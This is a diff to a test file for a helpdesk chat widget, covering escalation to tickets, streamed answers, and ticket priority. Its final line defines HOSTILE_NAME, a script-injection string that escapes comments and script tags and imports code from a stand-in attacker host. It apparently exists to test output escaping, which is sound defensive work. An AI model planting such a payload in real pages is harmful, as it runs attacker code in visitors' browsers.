@@ -92,8 +92,8 @@ def test_escalated_chat_becomes_one_ticket(acme, help_center, widget_key):
     assert chat["escalate"] is True
     handover = {"key": widget_key.key, "session_id": chat["session_id"], "email": "Visitor@Example.com"}
     first = call("escalate", handover).json()
-    again = call("escalate", handover).json()
-    assert first == again and first["ticket"].startswith("#")
+    again = call("escalate", handover).json()  # once: the same ticket (its link is issued anew, maybe a second later)
+    assert first["ticket"] == again["ticket"] and first["ticket"].startswith("#")
     with tenant_context(acme):
         from tickets.links import ticket_from_token
 
@@ -122,6 +122,40 @@ def test_manager_creates_a_widget_key_and_sees_the_embed_code(acme, manager_clie
     assert "/assistants/widget.js?key=wk_" in html
     bad = manager_client.post(f"/assistants/{support_bot.pk}/widget-keys/", {"allowed_origins": "ftp://x"}, follow=True)
     assert "is not an origin" in bad.content.decode()
+
+
+def test_widget_streams_its_answer(db, help_center, widget_key):
+    response = call("chat/stream", {"key": widget_key.key, "message": "How long does shipping take?"})
+    assert response.status_code == 200 and response["Content-Type"] == "text/event-stream"
+    assert response["Access-Control-Allow-Origin"] == SITE
+    raw = b"".join(response.streaming_content).decode()
+    blocks = [block for block in raw.strip().split("\n\n") if block]
+    assert blocks[0].startswith("event: token") and blocks[-1].startswith("event: done")
+    done = json.loads(blocks[-1].split("data: ", 1)[1])
+    assert "business days" in done["reply"] and done["session_id"]
+    bad = call("chat/stream", {"key": widget_key.key, "message": ""})
+    assert bad.status_code == 400 and bad.json()["detail"] == "The message is empty."
+
+
+def test_the_ticket_is_about_the_escalated_question_with_a_fitting_priority(acme, help_center, widget_key):
+    first = call("chat", {"key": widget_key.key, "message": "How long does shipping take?"}).json()
+    session = {"key": widget_key.key, "session_id": first["session_id"]}
+    angry = call("chat", {**session, "message": "I am furious, my order arrived broken!"}).json()
+    assert angry["escalate"] is True
+    call("chat", {**session, "message": "thanks"})
+    handed = call("escalate", {**session, "email": "kim@example.com", "name": "Kim Lee"}).json()
+    with tenant_context(acme):
+        ticket = Ticket.objects.get(number=int(handed["ticket"].lstrip("#")))
+        assert ticket.subject == "I am furious, my order arrived broken!"
+        assert ticket.priority == "high"
+        assert (ticket.requester.email, ticket.requester.name) == ("kim@example.com", "Kim Lee")
+
+
+def test_urgent_words_make_an_urgent_ticket(acme, help_center, widget_key):
+    chat = call("chat", {"key": widget_key.key, "message": "Our shop is down, we are losing orders!"}).json()
+    handed = call("escalate", {"key": widget_key.key, "session_id": chat["session_id"], "email": "ops@example.com"})
+    with tenant_context(acme):
+        assert Ticket.objects.get(number=int(handed.json()["ticket"].lstrip("#"))).priority == "urgent"
 
 
 HOSTILE_NAME = "*/ window.__pwned=1; import(`//evil.example/x.js`) /* </script><b>\u2028\u2029'\"x"
